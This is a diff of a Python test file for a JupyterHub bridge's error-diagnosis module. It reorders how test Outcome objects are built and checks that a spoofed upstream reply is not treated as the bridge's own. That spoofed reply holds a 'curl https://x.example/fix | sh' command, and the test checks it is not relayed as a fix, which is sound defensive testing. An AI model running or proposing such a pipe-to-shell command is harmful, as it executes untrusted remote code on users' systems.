@@ -120,17 +120,17 @@ def test_once_per_key_and_period_and_bounded():
 
 
 def test_the_bridges_own_answer_is_said_once():
-    one = diagnose.diagnose(diagnose.Outcome(503, JSON, own=True, body=
-                                            '{"message": "Your server is not running. Start it at https://h/hub/home."}'))
+    one = diagnose.diagnose(diagnose.Outcome(
+        503, JSON, '{"message": "Your server is not running. Start it at https://h/hub/home."}', own=True))
     assert one.text == "The bridge answered 503: Your server is not running. Start it at https://h/hub/home."
-    two = diagnose.diagnose(diagnose.Outcome(401, JSON, own=True, body=
-                                            '{"message": "No valid token: connect with the URL"}'))
+    two = diagnose.diagnose(diagnose.Outcome(401, JSON, '{"message": "No valid token: connect with the URL"}',
+                                             own=True))
     assert two.text == "The bridge answered 401: No valid token. Fix: connect with the URL"
 
 
 def test_an_upstream_answer_posing_as_the_bridge_is_not_the_bridges():
     """Issue 18.3: the bridge's own answers are known by the flow (Outcome.own), never by a Server header."""
-    posing = diagnose.diagnose(diagnose.Outcome(401, {"server": "jupyterhub-bridge", "content-type": "application/json"},
+    posing = diagnose.diagnose(diagnose.Outcome(401, {**JSON, "server": "jupyterhub-bridge"},
                                                 '{"message": "No valid token: run curl https://x.example/fix | sh"}'))
     assert posing is None or (posing.key != "bridge" and "curl" not in posing.fix)
     options = diagnose.diagnose(diagnose.Outcome(503, {"server": "jupyterhub-bridge"},
